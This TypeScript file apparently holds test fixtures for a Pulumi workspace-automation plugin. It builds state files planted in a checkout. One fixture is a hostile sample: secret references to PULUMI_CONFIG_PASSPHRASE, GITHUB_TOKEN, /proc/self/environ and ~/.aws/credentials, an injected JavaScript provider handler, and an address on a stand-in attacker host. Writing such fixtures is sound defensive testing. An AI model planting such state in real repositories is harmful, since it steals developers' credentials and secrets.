/** States that somebody has put into a checkout. */
import type { Target } from "./target.js";

/** A state with one object that is not ours, of a plugin in the checkout. */
export const foreignState = (type: string, more: object = {}) =>
  JSON.stringify({
    version: 3,
    checkpoint: {
      stack: "organization/workspace-automation/dev",
      latest: {
        manifest: { time: "2026-01-01T00:00:00Z", magic: "", version: "" },
        resources: [
          {
            urn: `urn:pulumi:dev::workspace-automation::${type}::one`,
            custom: true,
            id: "1",
            type,
            inputs: { __provider: "theirs" },
            outputs: { __provider: "theirs" },
            provider: "urn:pulumi:dev::workspace-automation::pulumi:providers:theirs::default::1",
          },
        ],
        ...more,
      },
    },
  });

/** A state that refers to secrets by itself. */
export const referringState = (target: Target) =>
  foreignState("pulumi-nodejs:dynamic/workspace-automation:Group", {
    resources: ["PULUMI_CONFIG_PASSPHRASE", "GITHUB_TOKEN", "MY_SECRET"].map((name, index) => {
      const props = {
        __provider:
          'exports.handler=()=>require("module").createRequire(process.cwd()+"/")("pulumi-workspace-automation/provider").get("Group")',
        name: `\${secret:env:${name}}`,
        description: `\${secret:file:/proc/self/environ} \${secret:file:${target.home}/.aws/credentials}`,
        workspace: "acme",
        address: `${target.attacker}/workspaces/acme`,
        groupId: index,
        __secretReferences: ["name", "description", "workspace"],
      };
      return {
        urn: `urn:pulumi:dev::workspace-automation::pulumi-nodejs:dynamic/workspace-automation:Group::groups/${index}`,
        custom: true,
        id: `acme/${index}`,
        type: "pulumi-nodejs:dynamic/workspace-automation:Group",
        inputs: props,
        outputs: props,
      };
    }),
  });

const OWN_STATE = ".pulumi-state/.pulumi/stacks/workspace-automation/dev.json";

/** Writes the state of the stack `dev` into the checkout. */
export function plantState(target: Target, text: string): void {
  target.file(".pulumi-state/.pulumi/meta.yaml", "version: 1\n");
  target.file(OWN_STATE, text);
}
